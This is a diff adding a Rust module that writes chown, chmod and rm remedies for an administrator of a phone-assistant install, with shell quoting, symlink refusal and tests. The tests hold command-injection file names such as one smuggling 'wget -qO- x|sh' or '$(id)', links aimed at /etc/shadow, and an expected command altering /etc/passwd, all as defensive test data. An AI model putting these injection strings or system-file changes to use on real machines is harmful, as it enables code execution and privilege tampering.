@@ -1,0 +1,288 @@
+//! What an administrator is told to type as root where owners or modes are wrong.
+//!
+//! What is read here may have changed when it is typed: a user who may write to a folder can put a link there. So a
+//! link is named instead of followed, `chown` leaves links alone (`-h`), and `chmod`, which cannot, is left to the user
+//! whose folder it is. A file's name may hold a command, so each path is quoted.
+
+use std::ffi::OsStr;
+use std::fs;
+use std::os::unix::ffi::OsStrExt;
+use std::os::unix::fs::MetadataExt;
+use std::path::Path;
+
+use crate::sys::identity::names;
+use crate::sys::plain::plain;
+use crate::sys::rooted::{self, Fault, Followed};
+
+/// `text` as one word of a shell, whatever stands in it: in quotes where it has other characters than those of usual
+/// paths, and with escapes where it has what a terminal obeys or is not seen.
+pub(crate) fn shell_quoted(text: impl AsRef<OsStr>) -> String {
+    let bytes = text.as_ref().as_bytes();
+    let is_usual = |byte: &u8| byte.is_ascii_alphanumeric() || b"_./@%+=:,-".contains(byte);
+    if !bytes.is_empty() && bytes.iter().all(is_usual) {
+        return String::from_utf8_lossy(bytes).into_owned();
+    }
+    match std::str::from_utf8(bytes)
+        .ok()
+        .filter(|text| plain(text) == *text)
+    {
+        Some(text) => format!("'{}'", text.replace('\'', r"'\''")),
+        None => format!(
+            "$'{}'",
+            bytes.iter().copied().map(escaped).collect::<String>()
+        ),
+    }
+}
+
+/// A byte as `$'…'` of a shell reads it.
+fn escaped(byte: u8) -> String {
+    match byte {
+        b' '..=b'~' if !b"'\\".contains(&byte) => char::from(byte).to_string(),
+        byte => format!("\\{byte:03o}"),
+    }
+}
+
+/// Gives a folder or file to a user, and with `is_deep` what is in it.
+pub(crate) fn own(path: &Path, user: &str, is_deep: bool) -> String {
+    let option = if is_deep { "-hR" } else { "-h" };
+    let user = shell_quoted(user);
+    let give = |it: Followed| format!("chown {option} {user}: {}", shell_quoted(it.real));
+    rooted::follow(path).map_or_else(named, give)
+}
+
+/// Removes a file or a link in a folder of `user`.
+pub(crate) fn remove(path: &Path, user: &str) -> String {
+    let (Some(folder), Some(name)) = (path.parent(), path.file_name()) else {
+        return format!("remove {}", shell_quoted(path));
+    };
+    // What stands there may be a link, and that link is removed: only what is above it must be none.
+    let above = if folder.as_os_str().is_empty() {
+        Path::new(".")
+    } else {
+        folder
+    };
+    let remove = |Followed { real, .. }: Followed| {
+        let place = real.join(name);
+        let is_roots = rooted::follow(&place.with_file_name(NOTHING)).is_ok_and(|it| it.is_roots);
+        let prefix = prefix(is_roots, user);
+        format!("{prefix}rm {}", shell_quoted(place))
+    };
+    rooted::follow(above).map_or_else(named, remove)
+}
+
+/// Gives a folder of `user` a mode.
+pub(crate) fn mode(path: &Path, mode: u32, user: &str) -> String {
+    let give = |Followed { real, is_roots }| {
+        let prefix = prefix(is_roots, user);
+        format!("{prefix}chmod {mode:o} {}", shell_quoted(real))
+    };
+    rooted::follow(path).map_or_else(named, give)
+}
+
+/// Root works only where root alone can change what stands there.
+fn prefix(is_roots: bool, user: &str) -> String {
+    if is_roots {
+        String::new()
+    } else {
+        format!("sudo -u {} ", shell_quoted(user))
+    }
+}
+
+/// Closes a file that holds a key to all but root and a group.
+pub(crate) fn close(path: &Path, group: &str) -> String {
+    let close = |Followed { real, is_roots }| {
+        let shown = shell_quoted(&real);
+        let group = shell_quoted(group);
+        let owner = fs::symlink_metadata(&real).map_or(0, |data| data.uid());
+        if is_roots {
+            format!("chown -h root:{group} {shown}; chmod 640 {shown}")
+        } else if owner == 0 {
+            format!(
+                "put {shown} into a folder that root alone can change, such as /etc/phone-assistant, and name it in the settings"
+            )
+        } else {
+            let user = names::user_name(owner);
+            format!("sudo -u {} chmod 640 {shown}", shell_quoted(user))
+        }
+    };
+    rooted::follow(path).map_or_else(named, close)
+}
+
+fn named(fault: Fault) -> String {
+    let Fault::Link { path, to } = fault else {
+        return fault.to_string();
+    };
+    let (path, to) = (shell_quoted(path), shell_quoted(to));
+    format!(
+        "{path} is a link to {to}: if that is not yours, remove it (rm {path}) and run sudo ./install.sh; if it is, put the thing itself there"
+    )
+}
+/// A name that nothing has: what it is asked for is the folder.
+const NOTHING: &str = "phone-assistant-nothing";
+
+#[cfg(test)]
+mod tests {
+    use std::os::unix::fs::{PermissionsExt, chown, symlink};
+
+    use super::*;
+
+    /// A folder as Asterisk's user has one, where the test may give it away; else the test's own.
+    fn theirs() -> testkit::TempDir {
+        let folder = testkit::TempDir::new().expect("a temporary folder");
+        fs::set_permissions(folder.path(), fs::Permissions::from_mode(0o755)).expect("ours");
+        if rustix::process::geteuid().is_root() {
+            chown(folder.path(), Some(65_534), None).expect("given away");
+        }
+        folder
+    }
+
+    #[test]
+    fn below_anothers_folder_root_follows_nothing() {
+        let folder = theirs();
+        let place = folder.path().join("state");
+        fs::create_dir(&place).expect("made");
+        let shown = place.display();
+        assert_eq!(own(&place, "pbx", false), format!("chown -h pbx: {shown}"));
+        assert_eq!(own(&place, "pbx", true), format!("chown -hR pbx: {shown}"));
+        assert_eq!(
+            mode(&place, 0o700, "pbx"),
+            format!("sudo -u pbx chmod 700 {shown}")
+        );
+        let missing = folder.path().join("missing/deep");
+        assert_eq!(
+            own(&missing, "pbx", false),
+            format!("chown -h pbx: {}", missing.display())
+        );
+    }
+
+    #[test]
+    fn a_link_is_named_and_no_command_goes_through_it() {
+        let folder = theirs();
+        for (name, to) in [
+            ("log", "/etc/shadow"),
+            ("state", "/etc/cron.d"),
+            ("away", "/nowhere"),
+        ] {
+            let link = folder.path().join(name);
+            symlink(to, &link).expect("linked");
+            if rustix::process::geteuid().is_root() {
+                std::os::unix::fs::lchown(&link, Some(65_534), None).expect("given away");
+            }
+            for path in [link.clone(), link.join("below")] {
+                for remedy in [
+                    own(&path, "pbx", true),
+                    mode(&path, 0o700, "pbx"),
+                    close(&path, "pbx"),
+                ] {
+                    let words = format!("{} is a link to {to}", link.display());
+                    assert!(remedy.starts_with(&words), "{remedy}");
+                    assert!(
+                        !remedy.contains("chown") && !remedy.contains("chmod"),
+                        "{remedy}"
+                    );
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn what_root_alone_can_change_is_changed_by_root() {
+        let path = Path::new("/etc/phone-assistant-of-a-test");
+        assert_eq!(
+            mode(path, 0o700, "pbx"),
+            format!("chmod 700 {}", path.display())
+        );
+        let expected = "chown -h root:voice /etc/passwd; chmod 640 /etc/passwd";
+        assert_eq!(close(Path::new("/etc/passwd"), "voice"), expected);
+    }
+
+    #[test]
+    fn a_key_in_anothers_folder_is_closed_by_its_owner() {
+        let folder = theirs();
+        let key = folder.path().join("key");
+        fs::write(&key, "").expect("written");
+        let is_root = rustix::process::geteuid().is_root();
+        let remedy = close(&key, "voice");
+        let owner = fs::metadata(&key).expect("there").uid();
+        let user = names::user_name(owner);
+        let expected = if is_root {
+            format!("put {} into a folder", key.display())
+        } else {
+            format!("sudo -u {user} chmod 640 {}", key.display())
+        };
+        assert!(remedy.starts_with(&expected), "{remedy}");
+    }
+
+    #[test]
+    fn a_shell_takes_every_path_as_one_word() {
+        let table = [
+            (
+                "/var/lib/a-b_c.d@e%f+g=h:i,j",
+                "/var/lib/a-b_c.d@e%f+g=h:i,j",
+            ),
+            ("/tmp/a;wget -qO- x|sh;", "'/tmp/a;wget -qO- x|sh;'"),
+            ("/tmp/it's $(id)`id`", r"'/tmp/it'\''s $(id)`id`'"),
+            ("/tmp/a\nb\u{1b}'\\", r"$'/tmp/a\012b\033\047\134'"),
+            ("/tmp/\u{202E}x", r"$'/tmp/\342\200\256x'"),
+            ("/tmp/Ä", "'/tmp/Ä'"),
+            ("", "''"),
+        ];
+        for (path, expected) in table {
+            assert_eq!(shell_quoted(path), expected);
+            if !path.contains(char::is_control) && !path.contains('\u{202E}') {
+                let script = format!("printf %s {expected}");
+                let output = std::process::Command::new("sh")
+                    .args(["-c", &script])
+                    .output();
+                let said = output.expect("every machine has a shell").stdout;
+                assert_eq!(String::from_utf8(said).as_deref(), Ok(path));
+            }
+        }
+        let bytes = OsStr::from_bytes(b"/tmp/\xff");
+        assert_eq!(shell_quoted(bytes), r"$'/tmp/\377'");
+    }
+
+    #[test]
+    fn no_remedy_has_a_path_that_a_shell_would_obey() {
+        let folder = theirs();
+        let place = folder.path().join("a;id>pwned;");
+        fs::create_dir(&place).expect("made");
+        let quoted = shell_quoted(&place);
+        let link = folder.path().join("b;id;");
+        symlink("/etc/c;id;", &link).expect("linked");
+        if rustix::process::geteuid().is_root() {
+            std::os::unix::fs::lchown(&link, Some(65_534), None).expect("given away");
+        }
+        for (path, shown) in [(&place, quoted), (&link.join("x"), shell_quoted(&link))] {
+            for remedy in [
+                own(path, "pbx", true),
+                mode(path, 0o700, "pbx"),
+                close(path, "pbx"),
+                remove(path, "pbx"),
+            ] {
+                assert!(remedy.contains(&shown), "{remedy}");
+                let outside: String = remedy.split('\'').step_by(2).collect();
+                assert!(!outside.contains(";id"), "{remedy}");
+            }
+        }
+    }
+
+    #[test]
+    fn a_link_is_removed_and_what_is_behind_one_is_not() {
+        let folder = theirs();
+        let link = folder.path().join("link");
+        symlink("/etc", &link).expect("linked");
+        if rustix::process::geteuid().is_root() {
+            std::os::unix::fs::lchown(&link, Some(65_534), None).expect("given away");
+        }
+        let shown = link.display();
+        assert_eq!(remove(&link, "pbx"), format!("sudo -u pbx rm {shown}"));
+        let below = remove(&link.join("passwd"), "pbx");
+        assert!(
+            below.starts_with(&format!("{shown} is a link to /etc")),
+            "{below}"
+        );
+        let roots = Path::new("/etc/phone-assistant-of-a-test");
+        assert_eq!(remove(roots, "pbx"), "rm /etc/phone-assistant-of-a-test");
+    }
+}
